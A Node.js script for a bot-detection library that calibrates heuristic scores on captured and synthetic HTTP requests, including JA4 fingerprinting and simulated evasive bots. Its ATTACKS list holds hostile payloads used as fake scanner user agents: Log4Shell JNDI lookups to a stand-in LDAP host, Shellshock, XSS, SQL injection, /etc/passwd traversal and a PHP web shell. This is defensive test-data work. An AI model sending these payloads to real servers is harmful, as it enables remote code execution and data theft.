// Fits the scores of the heuristics in packs/heuristics.json on labelled requests and writes them
// back (deterministically), printing what changed. Also the home of the labelled data sets that
// scripts/report.mjs and test/heuristics.test.js use.
//
//   node scripts/calibrate.mjs             fit and write packs/heuristics.json
//   node scripts/calibrate.mjs --dry-run   fit and print, write nothing
//   node scripts/calibrate.mjs --check     exit 1 when the committed scores differ from the fit
//   node scripts/calibrate.mjs --json      the fit as JSON
//
// Needs `npx tsc -p tsconfig.json` (dist/) and build/botsift.wasm (`npm run build`).
//
// The labelled set:
//   captures   test/fixtures/requests: real requests from real clients, labels given by the fixtures
//   isbot      isbot's fixtures: crawlers = bot, browsers = human; user agent only
//   examples   the `examples` of every bot in packs/ai-bots.json and packs/crawlers.json = bot; user agent only
//   synthetic  requests built from the captures (see syntheticSet): browser user agents from
//              bench/data/browser-uas.json with browser header sets per engine (human; 5% from
//              hosting networks, 5% of HTTPS requests under TLS interception), and bots:
//              libraries with their own, a bot's or a browser's user agent, libraries with copied
//              browser headers, headless Chromium with a rotated user agent, random user-agent
//              generators, scanners
//
// The model: a heuristic of score s says "automated with probability (99 − s) / 98" and the
// engine combines fired heuristics as a noisy OR. So each score is fitted from the heuristic's
// precision: p = (TP + 1) / (TP + FP + 2) — a uniform Beta prior, so that a heuristic seen a handful
// of times does not become certain — with bots and humans weighted to equal total weight (the
// score is the posterior at even odds, whatever the mix of the labelled set), then
// s = round(99 − 98 p), clamped to 2…95: a heuristic alone is never proof (signatures are), and
// one that is barely evidence still counts a little. FLOORS raises a few scores to 30 (weak alone)
// where the evidence's human cases are real but absent from the labelled data (networks, TLS).
import { readFileSync, writeFileSync, readdirSync } from "node:fs";
import { createHash } from "node:crypto";
import { fileURLToPath } from "node:url";
import { dirname, join } from "node:path";
import { rng } from "../test/support/random.js";

const root = join(dirname(fileURLToPath(import.meta.url)), "..");
const readJson = (p) => JSON.parse(readFileSync(join(root, p), "utf8"));

export const HEURISTICS_PATH = "packs/heuristics.json";
export const SCORE_MIN = 2;
export const SCORE_MAX = 95;
const TLS_FLOOR_WHY = "TLS interception (antivirus web shields, corporate proxies: 4–10% of HTTPS connections in Durumeric et al., NDSS 2017) puts a non-browser ClientHello under real browsers, and no captured request shows it; the synthetic set assumes 5% of people's HTTPS requests, so the TLS stack alone stays weak (≥ 30) and only adds to other evidence";
/**
 * Heuristics that must never flag a request alone, whatever the fit says, with the reason. Their
 * evidence is not in the real captures, so the fit would only echo the synthetic set's assumptions.
 */
export const FLOORS = {
  "datacenter-browser": [30, "no labelled request has a real ASN: the fit would echo the synthetic set's assumed shares (5% of people, 65% of bots on hosting networks); VPNs and cloud desktops carry people, so a network alone stays weak (≥ 30) and only adds to other evidence"],
  "tls-library-ciphers": [30, TLS_FLOOR_WHY],
  "tls-not-browser-shape": [30, TLS_FLOOR_WHY],
};
/** How old the dated version limits of ua-version-future may get before calibrate warns. */
const STALE_LIMIT_DAYS = 183;

// ---------------------------------------------------------------------------------------------
// Packs and engines

/** The default pack sources (scripts/build-assets.mjs), read without running that script. */
export function defaultPackSources() {
  const text = readFileSync(join(root, "scripts/build-assets.mjs"), "utf8");
  const m = /DEFAULT_PACK_SOURCES\s*=\s*(\[[^\]]*\])/.exec(text);
  const list = m ? JSON.parse(m[1]) : ["packs/ai-bots.json", "packs/crawlers.json", "packs/ip-ranges.json"];
  return list.includes(HEURISTICS_PATH) ? list : [...list, HEURISTICS_PATH];
}

/** The pack sources with `heuristics` (a pack source object) in place of packs/heuristics.json. */
export function packSources(heuristics = readJson(HEURISTICS_PATH)) {
  return defaultPackSources().map((p) => ({ label: p, source: p === HEURISTICS_PATH ? heuristics : readJson(p) }));
}

export async function engineFor(heuristics = readJson(HEURISTICS_PATH)) {
  const { createEngine, compilePack } = await import("botsift");
  return createEngine({ pack: await compilePack(packSources(heuristics)) });
}

/** Whether a heuristic judges headers: then it starts with `botsift.headers.complete and`. */
export function isHeaderHeuristic(h) {
  return h.expression.startsWith("botsift.headers.complete and ");
}

// ---------------------------------------------------------------------------------------------
// JA4 (FoxIO, BSD-3-Clause) of a captured ClientHello: t<version><sni d|i><ciphers><extensions><alpn>
// _<sha256 of sorted ciphers, 12 hex>_<sha256 of sorted extensions without SNI and ALPN, then
// signature algorithms in order, 12 hex>. GREASE values are ignored.

const isGrease = (v) => (v & 0x0f0f) === 0x0a0a && v >> 8 === (v & 0xff);
const hex4 = (v) => v.toString(16).padStart(4, "0");
const sha12 = (s) => createHash("sha256").update(s).digest("hex").slice(0, 12);
const two = (n) => String(Math.min(n, 99)).padStart(2, "0");

export function ja4(tls) {
  const ciphers = tls.ciphers.map((c) => parseInt(c, 16)).filter((v) => !isGrease(v));
  const exts = tls.extensions.filter((v) => !isGrease(v));
  const versions = (tls.supportedVersions ?? []).map((v) => parseInt(v, 16)).filter((v) => !isGrease(v));
  const version = { 0x0304: "13", 0x0303: "12", 0x0302: "11", 0x0301: "10" }[Math.max(...versions, 0)] ?? "00";
  const alpn = tls.alpn?.[0] ?? "";
  const a = `t${version}${tls.sni ? "d" : "i"}${two(ciphers.length)}${two(exts.length)}${alpn ? alpn[0] + alpn[alpn.length - 1] : "00"}`;
  const b = sha12(ciphers.map(hex4).sort().join(","));
  const extList = exts.filter((e) => e !== 0 && e !== 16).map(hex4).sort().join(",");
  const sigs = (tls.signatureAlgorithms ?? []).map((s) => s.replace(/^0x/, "").padStart(4, "0"));
  return `${a}_${b}_${sha12(sigs.length ? `${extList}_${sigs.join(",")}` : extList)}`;
}

/** The same fingerprint as seen when the client connects to a host name: SNI sent (one more extension). */
function withSni(fp) {
  if (fp[3] !== "i") return fp;
  return `${fp.slice(0, 3)}d${fp.slice(4, 6)}${two(Number(fp.slice(6, 8)) + 1)}${fp.slice(8)}`;
}

// Published JA4 of browsers not captured here (FoxIO's ja4+ mapping): only used for synthetic
// Firefox and Safari requests. Chromium's comes from the captures.
const FIREFOX_JA4 = "t13d1717h2_5b57614c22b0_3cbfd9057e0d";
const SAFARI_JA4 = "t13d2014h2_a09f3c656075_14788d8d241b";

// ---------------------------------------------------------------------------------------------
// Labelled sets

/** The captured requests, each { id, source, kind, label, client, scheme, origin, request }. */
export function captureSet() {
  const dir = join(root, "test/fixtures/requests");
  return readdirSync(dir).filter((f) => f.endsWith(".json")).sort().map((f) => {
    const j = JSON.parse(readFileSync(join(dir, f), "utf8"));
    return { id: f.replace(/\.json$/, ""), source: "captures", category: j.kind, kind: j.kind, label: j.expected, client: j.client, scheme: j.scheme, request: captureRequest(j) };
  });
}

/** A fixture as a RequestInfo, as a server would hand it to botsift: wire order, TLS fingerprint. */
export function captureRequest(j) {
  const r = j.request;
  const req = { headers: r.headers.map(([k, v]) => [k, v]), method: r.method, url: r.target, httpVersion: `HTTP/${r.httpVersion}`, tls: j.scheme === "https" };
  if (j.tls) { req.ja4 = ja4(j.tls); req.ja3 = j.tls.ja3Hash; }
  return req;
}

export function isbotSet() {
  const load = (f) => Object.values(readJson(`test/fixtures/isbot/${f}`)).flat();
  const uniq = (a) => [...new Set(a)];
  return [
    ...uniq(load("crawlers.json")).map((ua, i) => ({ id: `isbot-crawler-${i}`, source: "isbot", category: "crawler", label: "bot", request: ua })),
    ...uniq(load("browsers.json")).map((ua, i) => ({ id: `isbot-browser-${i}`, source: "isbot", category: "browser", label: "human", request: ua })),
  ];
}

export function exampleSet() {
  const seen = new Set();
  const out = [];
  for (const p of ["packs/ai-bots.json", "packs/crawlers.json"]) {
    for (const b of readJson(p).bots) for (const ua of b.examples ?? []) {
      if (seen.has(ua)) continue;
      seen.add(ua);
      out.push({ id: `example-${out.length}`, source: "examples", category: b.category, label: "bot", request: ua });
    }
  }
  return out;
}

/** The real labelled fixtures: captures, isbot, pack examples. */
export function fixtureSet() {
  return [...captureSet(), ...isbotSet(), ...exampleSet()];
}

// ---------------------------------------------------------------------------------------------
// The synthetic set

const FAMILY_TOKENS = [["Edg/", "edge"], ["EdgA/", "edge"], ["EdgiOS/", "edge"], ["OPR/", "opera"], ["SamsungBrowser/", "samsung"], ["HeadlessChrome/", "headless_chrome"], ["CriOS/", "chrome"], ["Chrome/", "chrome"], ["FxiOS/", "firefox"], ["Firefox/", "firefox"], ["Version/", "safari"]];

/** The engine's reading of a user agent (assembly/fields.ts uaFamily), plus its rendering engine. */
export function uaInfo(ua) {
  let family = "other", major = null;
  for (const [token, name] of FAMILY_TOKENS) {
    const i = ua.indexOf(token);
    if (i < 0 || (name === "safari" && !ua.includes("Safari/"))) continue;
    family = name;
    const m = /^\d+/.exec(ua.slice(i + token.length));
    major = m ? Number(m[0]) : null;
    break;
  }
  const ios = ua.includes("like Mac OS X");
  const chrome = /Chrome\/(\d+)/.exec(ua);
  const engine = ios ? "webkit" : chrome ? "chromium" : family === "firefox" || /Gecko\/\d/.test(ua) ? "gecko" : ua.includes("AppleWebKit") ? "webkit" : "other";
  const iosMajor = Number(/OS (\d+)_/.exec(ua)?.[1] ?? 0);
  return { family, major, engine, chromeMajor: chrome ? Number(chrome[1]) : null, ios, iosMajor };
}

function platformOf(ua) {
  if (ua.includes("Windows")) return "Windows";
  if (ua.includes("CrOS")) return "Chrome OS";
  if (ua.includes("Android")) return "Android";
  if (ua.includes("Macintosh")) return "macOS";
  if (ua.includes("Linux") || ua.includes("X11")) return "Linux";
  return "Unknown";
}

const LANGUAGES = ["en-US,en;q=0.9", "en-GB,en-US;q=0.9,en;q=0.8", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
  "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7", "ja,en-US;q=0.9,en;q=0.8", "zh-CN,zh;q=0.9", "ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7",
  "it-IT,it;q=0.9,en-US;q=0.8,en;q=0.7", "nl-NL,nl;q=0.9,en-US;q=0.8,en;q=0.7", "ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7", "tr-TR,tr;q=0.9", "pl-PL,pl;q=0.9,en-US;q=0.8,en;q=0.7", "en-US"];
const GREASE_BRANDS = ['"Not_A Brand";v="8"', '"Not:A-Brand";v="24"', '"Not/A)Brand";v="99"', '"Not)A;Brand";v="99"', '"Not A(Brand";v="8"'];

function secChUa(ua, info, r) {
  const cv = info.chromeMajor;
  const own = { edge: `"Microsoft Edge";v="${info.major}"`, opera: `"Opera";v="${info.major}"`, samsung: `"Samsung Internet";v="${info.major}"` }[info.family]
    ?? (ua.includes("; wv)") ? `"Android WebView";v="${cv}"` : info.family === "chrome" && r.chance(0.9) ? `"Google Chrome";v="${cv}"` : null);
  const brands = [`"Chromium";v="${cv}"`, r.pick(GREASE_BRANDS)];
  if (own) brands.push(own);
  for (let i = brands.length - 1; i > 0; i--) { const j = r.int(i + 1); [brands[i], brands[j]] = [brands[j], brands[i]]; }
  return brands.join(", ");
}

const CHROMIUM_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7";
const GECKO_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";

/**
 * The headers a browser with this user agent sends for a page (or, for Chromium, sometimes a
 * fetch()), in its order. Chromium's sets are the captured ones (test/fixtures/requests), adapted
 * to the version (client hints from 89, Fetch Metadata from 76/80, zstd from 123) and platform;
 * Firefox's and Safari's follow their documented behaviour (not captured here).
 */
export function browserHeaders(ua, { https, h2, host }, r) {
  const info = uaInfo(ua);
  const lang = r.pick(LANGUAGES);
  const cookie = r.chance(0.3) ? [["cookie", `session=${r.int(1e9).toString(36)}`]] : [];
  const site = r.pick(["none", "none", "same-origin", "cross-site"]);
  const referer = site === "none" ? [] : [["referer", site === "same-origin" ? `https://${host}/` : "https://www.google.com/"]];
  const conn = h2 ? [] : [["host", host], ["connection", "keep-alive"]];
  const H = [];
  if (info.engine === "chromium" || info.engine === "other") {
    const cv = info.chromeMajor ?? 120;
    const hints = https && cv >= 89 ? [["sec-ch-ua", secChUa(ua, info, r)], ["sec-ch-ua-mobile", ua.includes("Mobile") ? "?1" : "?0"], ["sec-ch-ua-platform", `"${platformOf(ua)}"`]] : [];
    const enc = https ? (cv >= 123 ? "gzip, deflate, br, zstd" : "gzip, deflate, br") : "gzip, deflate";
    const wv = ua.includes("; wv)") ? [["x-requested-with", "com.example.app"]] : [];
    if (https && cv >= 100 && r.chance(0.2)) {
      // A fetch() from a page: Chromium 1xx moves sec-ch-ua-platform and user-agent to the front.
      H.push(...conn, ...(hints.length ? [hints[2], ["user-agent", ua], hints[0], hints[1]] : [["user-agent", ua]]), ["accept", "*/*"], ...wv,
        ["sec-fetch-site", "same-origin"], ["sec-fetch-mode", "cors"], ["sec-fetch-dest", "empty"], ["referer", `https://${host}/`],
        ["accept-encoding", enc], ["accept-language", lang], ...cookie, ...(h2 ? [["priority", "u=1, i"]] : []));
      return H;
    }
    const fetchMeta = !https ? [] : cv >= 80 ? [["sec-fetch-site", site], ["sec-fetch-mode", "navigate"], ["sec-fetch-user", "?1"], ["sec-fetch-dest", "document"]]
      : cv >= 76 ? [["sec-fetch-site", site], ["sec-fetch-mode", "navigate"], ["sec-fetch-user", "?1"]] : [];
    H.push(...conn, ...hints, ["upgrade-insecure-requests", "1"], ["user-agent", ua], ["accept", CHROMIUM_ACCEPT], ...wv, ...fetchMeta, ...referer,
      ["accept-encoding", enc], ["accept-language", lang], ...cookie, ...(h2 && cv >= 124 ? [["priority", "u=0, i"]] : []));
    return H;
  }
  if (info.engine === "gecko") {
    const v = info.major ?? 120;
    const enc = https ? (v >= 126 ? "gzip, deflate, br, zstd" : "gzip, deflate, br") : "gzip, deflate";
    const fetchMeta = https && v >= 90 ? [["sec-fetch-dest", "document"], ["sec-fetch-mode", "navigate"], ["sec-fetch-site", site], ["sec-fetch-user", "?1"]] : [];
    H.push(...(h2 ? [] : [["host", host]]), ["user-agent", ua], ["accept", GECKO_ACCEPT], ["accept-language", lang], ["accept-encoding", enc], ...referer,
      ...(h2 ? [] : [["connection", "keep-alive"]]), ...cookie, ["upgrade-insecure-requests", "1"], ...fetchMeta,
      ...(v >= 128 ? [["priority", "u=0, i"]] : []), ...(h2 ? [["te", "trailers"]] : []));
    return H;
  }
  // WebKit: Safari, and every browser on iOS.
  const v = info.ios ? info.iosMajor : info.family === "safari" ? info.major ?? 17 : 17;
  const fetchMeta = https && v >= 17;
  H.push(...(h2 ? [] : [["host", host]]), ...(fetchMeta ? [["sec-fetch-dest", "document"]] : []), ["user-agent", ua], ["upgrade-insecure-requests", "1"],
    ["accept", GECKO_ACCEPT], ...(fetchMeta ? [["sec-fetch-site", site], ["sec-fetch-mode", "navigate"]] : []), ...referer, ["accept-language", lang],
    ...(v >= 17 ? [["priority", "u=0, i"]] : []), ["accept-encoding", https ? "gzip, deflate, br" : "gzip, deflate"], ...(h2 ? [] : [["connection", "keep-alive"]]), ...cookie);
  return H;
}

function browserJa4(ua) {
  const info = uaInfo(ua);
  if (info.engine === "gecko") return FIREFOX_JA4;
  if (info.engine === "webkit") return SAFARI_JA4;
  return null; // Chromium: the captured ClientHello
}

// Residential, mobile and office networks (a sample of large consumer ISPs) and cloud/hosting
// networks (a subset of those the datacenter heuristic lists; synthetic traffic only).
const RESIDENTIAL_ASNS = [7922, 701, 7018, 20115, 22773, 3320, 3209, 2856, 5089, 3215, 12322, 3352, 1136, 6830, 4134, 4837, 9808, 17676, 4713, 55836, 45609, 28573, 8151, 12389, 9121, 1221, 812, 577];
const DATACENTER_ASNS = [16509, 14618, 396982, 8075, 14061, 16276, 24940, 63949, 31898, 45102, 132203, 51167, 20473, 12876, 60781];
const HOSTS = ["www.example.com", "shop.example.org", "news.example.net", "blog.example.com", "docs.example.io"];
const PATHS = ["/", "/products/42", "/blog/2026/11/hello", "/search?q=shoes", "/about", "/docs/getting-started"];

/** Replaces (in place) or appends `name`. */
function setHeader(list, name, value) {
  const i = list.findIndex(([k]) => k.toLowerCase() === name);
  if (i >= 0) list[i] = [list[i][0], value]; else list.push([name, value]);
  return list;
}

/**
 * A library's request with browser headers copied into it, the way the library merges them:
 * its own headers keep their place (values replaced), new ones are appended in the browser's
 * order; Go writes Host and User-Agent first and the rest sorted, Java's HttpClient sorts all.
 */
function copyHeaders(client, libHeaders, browser) {
  const skip = new Set(["host", "connection"]);
  const out = libHeaders.map(([k, v]) => [k, v]);
  for (const [k, v] of browser) {
    if (skip.has(k)) continue;
    setHeader(out, k.toLowerCase(), v);
  }
  if (client === "go-net-http") {
    const first = out.filter(([k]) => /^(host|user-agent)$/i.test(k));
    return [...first, ...out.filter(([k]) => !/^(host|user-agent)$/i.test(k)).sort(([a], [b]) => (a.toLowerCase() < b.toLowerCase() ? -1 : 1))];
  }
  if (client === "java-httpclient") return out.sort(([a], [b]) => (a.toLowerCase() < b.toLowerCase() ? -1 : 1));
  return out;
}

const ATTACKS = ["${jndi:ldap://203.0.113.9:1389/a}", "() { :; }; /bin/bash -c 'id'", "<script>alert(1)</script>", "' OR '1'='1", "1 UNION SELECT password FROM users--",
  "../../../../etc/passwd", "<?php system($_GET['c']); ?>", "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}", "sleep(10)#"];

/**
 * Synthetic labelled requests. Deterministic for a seed. Sizes: `humans` browser requests and
 * about as many bots, in the categories listed at the top of this file.
 */
export function syntheticSet({ seed = 1, humans = 2000 } = {}) {
  const r = rng(seed);
  const benchUas = readJson("bench/data/browser-uas.json").userAgents;
  const isbotBrowsers = [...new Set(Object.values(readJson("test/fixtures/isbot/browsers.json")).flat())];
  const botUas = [...new Set([...Object.values(readJson("test/fixtures/isbot/crawlers.json")).flat(), ...exampleSet().map((e) => e.request)])];
  const captures = captureSet();
  const libs = captures.filter((c) => c.kind === "library" || c.kind === "cli");
  const headless = captures.filter((c) => c.client === "chromium-headless" && !c.id.endsWith("-loopback"));
  const chromiumJa4 = captures.find((c) => c.client === "chromium-headful" && c.scheme === "https").request.ja4;
  // What a server sees under a browser whose TLS is intercepted (antivirus, corporate proxy): the
  // proxy's own stack; modelled with the OpenSSL and Go ClientHellos of the captures.
  const interceptors = captures.filter((c) => ["curl", "python-urllib", "go-net-http"].includes(c.client) && c.request.ja4).map((c) => withSni(c.request.ja4));
  const out = [];
  const ip = (bot) => `${bot ? "198.51.100" : "203.0.113"}.${1 + r.int(254)}`;
  const asn = (dcShare) => (r.chance(dcShare) ? r.pick(DATACENTER_ASNS) : r.pick(RESIDENTIAL_ASNS));
  const push = (label, category, request) => out.push({ id: `synthetic-${category}-${out.length}`, source: "synthetic", category, label, request });

  /** A library capture sent to a site: the site's host, SNI in its ClientHello. */
  const libRequest = (c, host, path) => {
    const req = { ...c.request, headers: c.request.headers.map(([k, v]) => [k, /^host$/i.test(k) ? host : v]), url: path, ip: ip(true), asn: asn(0.65) };
    if (req.ja4) req.ja4 = withSni(req.ja4);
    delete req.ja3;
    return req;
  };
  const withUa = (headers, ua) => headers.map(([k, v]) => [k, /^user-agent$/i.test(k) ? ua : v]);
  const maybeUnordered = (req) => (r.chance(0.2) ? { ...req, headers: new Headers(req.headers) } : req);

  // Humans: real browser user agents with their browser's headers.
  for (let i = 0; i < humans; i++) {
    const ua = benchUas[r.int(benchUas.length)];
    const https = r.chance(0.8);
    const version = https ? r.pick(["HTTP/2", "HTTP/2", "HTTP/1.1", "HTTP/3"]) : "HTTP/1.1";
    const host = r.pick(HOSTS);
    const headers = browserHeaders(ua, { https, h2: version !== "HTTP/1.1", host }, r);
    const req = { headers, method: "GET", url: r.pick(PATHS), host, httpVersion: version, tls: https, ip: ip(false), asn: asn(0.05) };
    if (https) req.ja4 = version === "HTTP/3" ? null : r.chance(0.05) ? r.pick(interceptors) : browserJa4(ua) ?? chromiumJa4;
    if (!req.ja4) delete req.ja4;
    push("human", "browser", maybeUnordered(req));
  }
  // Libraries and CLIs as they come, and with the user agent of a known bot.
  for (const c of libs) for (let k = 0; k < 3; k++) push("bot", "library", libRequest(c, r.pick(HOSTS), r.pick(PATHS)));
  for (let i = 0; i < 300; i++) {
    const c = r.pick(libs), ua = r.pick(botUas);
    const req = libRequest(c, r.pick(HOSTS), r.pick(PATHS));
    push("bot", "library-bot-ua", { ...req, headers: setHeader(withUa(req.headers, ua), "user-agent", ua) });
  }
  // Libraries with a browser's user agent (from current and from old user-agent lists).
  for (let i = 0; i < 600; i++) {
    const c = r.pick(libs), ua = r.chance(0.8) ? r.pick(benchUas) : r.pick(isbotBrowsers);
    const req = libRequest(c, r.pick(HOSTS), r.pick(PATHS));
    push("bot", "library-browser-ua", maybeUnordered({ ...req, headers: setHeader(withUa(req.headers, ua), "user-agent", ua) }));
  }
  // Libraries with a browser's whole header set copied in (sometimes only part of it).
  for (let i = 0; i < 400; i++) {
    const c = r.pick(libs), ua = r.pick(benchUas), host = r.pick(HOSTS);
    const req = libRequest(c, host, r.pick(PATHS));
    let browser = browserHeaders(ua, { https: req.tls, h2: false, host }, r);
    if (r.chance(0.3)) browser = browser.filter(([k]) => k === "user-agent" || r.chance(0.6));
    push("bot", "library-copied-headers", maybeUnordered({ ...req, headers: copyHeaders(c.client, req.headers, browser) }));
  }
  // Headless Chromium with a rotated user agent (Puppeteer's setUserAgent, Playwright's userAgent).
  for (let i = 0; i < 400; i++) {
    const c = r.pick(headless), ua = r.chance(0.85) ? r.pick(benchUas) : r.pick(isbotBrowsers), host = r.pick(HOSTS);
    const req = { ...c.request, headers: withUa(c.request.headers, ua).map(([k, v]) => [k, /^host$/i.test(k) ? host : v]), url: r.pick(PATHS), ip: ip(true), asn: asn(0.6) };
    if (req.ja4) req.ja4 = chromiumJa4;
    delete req.ja3;
    push("bot", "headless-rotated-ua", maybeUnordered(req));
  }
  // Random user-agent generators: plausible templates, random versions.
  for (let i = 0; i < 100; i++) {
    const v = 40 + r.int(220);
    const ua = r.chance(0.7)
      ? `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${v}.0.${r.int(9000)}.${r.int(200)} Safari/537.36`
      : `Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:${v}.0) Gecko/20100101 Firefox/${v}.0`;
    const base = r.chance(0.5) ? r.pick(libs).request : r.pick(headless).request;
    const req = { ...base, headers: withUa(base.headers, ua), url: r.pick(PATHS), ip: ip(true), asn: asn(0.65) };
    if (req.ja4) req.ja4 = withSni(req.ja4);
    delete req.ja3;
    push("bot", "random-ua", req);
  }
  // Scanners: payloads or garbage in the user agent, library headers.
  for (let i = 0; i < 60; i++) {
    const c = r.pick(libs), base = r.pick(benchUas);
    const ua = r.chance(0.7) ? (r.chance(0.5) ? `${base} ${r.pick(ATTACKS)}` : r.pick(ATTACKS)) : `${base} ${"A".repeat(300 + r.int(700))}`;
    const req = libRequest(c, r.pick(HOSTS), r.pick(PATHS));
    push("bot", "scanner", { ...req, headers: setHeader(withUa(req.headers, ua), "user-agent", ua), httpVersion: r.chance(0.3) ? "HTTP/1.0" : req.httpVersion });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Evaluation and fitting

/** Classifies every example: adds `verdict` and `fired` (heuristic detection ids). */
export function evaluate(engine, examples, heuristicIds) {
  return examples.map((e) => {
    const verdict = engine.classify(e.request);
    return { ...e, verdict, fired: verdict.detections.filter((d) => heuristicIds.has(d)) };
  });
}

/** Fits a score per heuristic from weighted precision on `evaluated`. */
export function fit(heuristics, evaluated) {
  const bots = evaluated.filter((e) => e.label === "bot").length;
  const humans = evaluated.length - bots;
  const wBot = evaluated.length / (2 * Math.max(bots, 1));
  const wHuman = evaluated.length / (2 * Math.max(humans, 1));
  const stats = new Map(heuristics.map((h) => [h.detectionId, { tp: 0, fp: 0, tpw: 0, fpw: 0, bySource: {} }]));
  for (const e of evaluated) {
    for (const d of e.fired) {
      const s = stats.get(d);
      if (e.label === "bot") { s.tp++; s.tpw += wBot; } else { s.fp++; s.fpw += wHuman; }
      const k = `${e.source}:${e.label}`;
      s.bySource[k] = (s.bySource[k] ?? 0) + 1;
    }
  }
  return heuristics.map((h) => {
    const s = stats.get(h.detectionId);
    const precision = (s.tpw + 1) / (s.tpw + s.fpw + 2);
    const fitted = Math.min(SCORE_MAX, Math.max(SCORE_MIN, Math.round(99 - 98 * precision)));
    const floor = FLOORS[h.id]?.[0] ?? SCORE_MIN;
    return { id: h.id, detectionId: h.detectionId, old: h.score, fitted, score: Math.max(fitted, floor), floor: FLOORS[h.id] ? floor : null, tp: s.tp, fp: s.fp, precision, bySource: s.bySource };
  });
}

/** Every labelled example, evaluated with the given heuristics source. */
export async function labelled(heuristics = readJson(HEURISTICS_PATH), { seed = 1 } = {}) {
  const engine = await engineFor(heuristics);
  const ids = new Set(heuristics.heuristics.map((h) => h.detectionId));
  return { engine, ids, fixtures: evaluate(engine, fixtureSet(), ids), synthetic: evaluate(engine, syntheticSet({ seed }), ids) };
}

function warnStaleLimits(source) {
  const notes = [];
  for (const h of source.heuristics) {
    const m = /[Aa]s of (\d{4}-\d{2}-\d{2})/.exec(h.description);
    if (!m) continue;
    const days = (Date.now() - Date.parse(m[1])) / 86_400_000;
    if (days > STALE_LIMIT_DAYS) notes.push(`warning: ${h.id} states its limits "as of ${m[1]}", ${Math.round(days)} days ago: review the versions/lists in its expression`);
  }
  return notes;
}

async function main() {
  const args = process.argv.slice(2);
  const dry = args.includes("--dry-run"), check = args.includes("--check"), json = args.includes("--json");
  const source = readJson(HEURISTICS_PATH);
  const { fixtures, synthetic } = await labelled(source);
  const all = [...fixtures, ...synthetic];
  const fitted = fit(source.heuristics, all);
  const changed = fitted.filter((f) => f.score !== f.old);
  if (json) {
    console.log(JSON.stringify({ examples: { fixtures: fixtures.length, synthetic: synthetic.length }, heuristics: fitted }, null, 2));
  } else {
    console.log(`labelled: ${fixtures.length} fixtures (captures, isbot, pack examples), ${synthetic.length} synthetic; ${all.filter((e) => e.label === "bot").length} bots, ${all.filter((e) => e.label === "human").length} humans`);
    console.log(`${"heuristic".padEnd(34)} ${"id".padStart(5)} ${"bots".padStart(6)} ${"humans".padStart(6)} ${"precision".padStart(9)}  score`);
    for (const f of fitted) {
      console.log(`${f.id.padEnd(34)} ${String(f.detectionId).padStart(5)} ${String(f.tp).padStart(6)} ${String(f.fp).padStart(6)} ${f.precision.toFixed(4).padStart(9)}  ${f.old === f.score ? String(f.score) : `${f.old} → ${f.score}`}${f.floor !== null && f.fitted < f.floor ? `  (fit ${f.fitted}, floor ${f.floor})` : ""}`);
    }
    for (const [id, [floor, why]] of Object.entries(FLOORS)) console.log(`floor ${id} ≥ ${floor}: ${why}`);
    const silent = fitted.filter((f) => f.tp + f.fp === 0);
    if (silent.length) console.log(`never fired: ${silent.map((f) => f.id).join(", ")}`);
    console.log(changed.length ? `${changed.length} score(s) changed` : "no change");
  }
  for (const n of warnStaleLimits(source)) console.error(n);
  if (check) process.exit(changed.length ? 1 : 0);
  if (dry || changed.length === 0) return;
  const byId = new Map(fitted.map((f) => [f.id, f.score]));
  for (const h of source.heuristics) h.score = byId.get(h.id);
  writeFileSync(join(root, HEURISTICS_PATH), JSON.stringify(source, null, 2) + "\n");
  if (!json) console.log(`wrote ${HEURISTICS_PATH}`);
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) await main();
